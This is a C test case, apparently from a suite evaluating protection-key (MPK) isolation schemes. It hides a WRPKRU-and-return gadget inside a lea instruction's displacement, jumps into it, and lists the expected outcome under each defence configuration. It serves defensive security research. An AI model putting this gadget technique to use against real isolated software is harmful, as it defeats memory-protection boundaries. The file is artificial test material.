/*
{
  "title": "WRPKRU in the displacement of a load, which is jumped into",
  "precondition": "CR4.PKE = 1",
  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2 (unintended occurrences)",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-hardened": "refused", "pks-hardened": "refused", "mpk-bundled": "refused"}
}
*/
#include "attack.h"

// One instruction, lea -0x3c10fef1(%rax), %ecx: 8d 88 0f 01 ef c3. From its third byte on it is WRPKRU and RET.
__asm__(
    ".text\n"
    "displacement:\n"
    "  leal -0x3c10fef1(%rax), %ecx\n"
    "  ret\n");
extern const char displacement[];

int main(void) {
  BYPASS_OF_KEYS(__asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(displacement + 2) : "memory"));
  GOAL_COUNT();
  return 0;
}
